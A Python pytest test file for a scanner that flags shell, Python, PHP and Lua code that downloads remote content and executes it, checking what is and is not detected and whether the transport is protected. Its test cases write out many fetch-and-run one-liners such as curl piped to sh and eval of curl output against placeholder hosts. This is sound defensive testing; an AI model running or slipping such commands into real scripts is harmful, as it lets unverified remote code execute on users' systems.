"""Fetched code that is run."""

import pytest

from fairmark.examine.scripts.downloads import run_downloads
from fairmark.examine.scripts.language import Language


def lines(code: str, language: Language = Language.SHELL) -> list[int]:
    return [one.line for one in run_downloads("#!/bin/sh\n" * (language is Language.SHELL) + code, language)]


@pytest.mark.parametrize(
    "code",
    [
        'eval "$(curl -s http://a.example/x)"',
        'sh -c "$(wget -qO- $URL)"',
        "bash <(curl -s http://a.example/x)",
        ". <(curl -s http://a.example/x)",
        "F=/tmp/x.sh\nwget -O $F http://a.example/x\nsh $F",
        "curl -o /tmp/x http://a.example/x\nchmod +x /tmp/x\n/tmp/x",
        "tftp -g -l /tmp/x.sh -r x.sh 10.0.0.1\n. /tmp/x.sh",
    ],
)
def test_what_is_fetched_and_run_is_found(code: str) -> None:
    assert len(lines(code)) == 1


@pytest.mark.parametrize(
    "code",
    [
        "V=$(curl -s http://a.example/version)\necho $V",
        "eval $(curl -s http://a.example/x | jq -r .port)",
        "wget -O /tmp/x.sh http://a.example/x\nopenssl dgst -sha256 -verify k -signature s /tmp/x.sh && sh /tmp/x.sh",
        "wget -O /tmp/x.tgz http://a.example/x\ntar xzf /tmp/x.tgz",
        "curl -s http://a.example/x | sh",  # reported with the updates
    ],
)
def test_what_is_read_or_verified_is_not(code: str) -> None:
    assert lines(code) == []


@pytest.mark.parametrize(
    ("code", "protected", "plain"),
    [
        ('eval "$(curl -s https://a.example/x)"', True, False),
        ('eval "$(curl -sk https://a.example/x)"', False, True),
        ('eval "$(curl -s http://a.example/x)"', False, True),
        ('eval "$(curl -s $URL)"', False, False),
    ],
)
def test_the_protection_of_the_way_is_told(code: str, protected: object, plain: object) -> None:
    (one,) = run_downloads("#!/bin/sh\n" + code, Language.SHELL)

    assert (one.protected, one.plain) == (protected, plain)


@pytest.mark.parametrize(
    ("language", "code"),
    [
        (Language.PYTHON, 'exec(urllib.request.urlopen("http://a.example/x").read())'),
        (Language.PHP, '<?php eval(file_get_contents("http://a.example/x"));'),
        (Language.LUA, 'loadstring(http.request("http://a.example/x"))()'),
        (Language.LUA, 'os.execute("wget -qO- http://a.example/x | sh")'),
    ],
)
def test_other_languages(language: Language, code: str) -> None:
    assert lines(code, language) == [1]
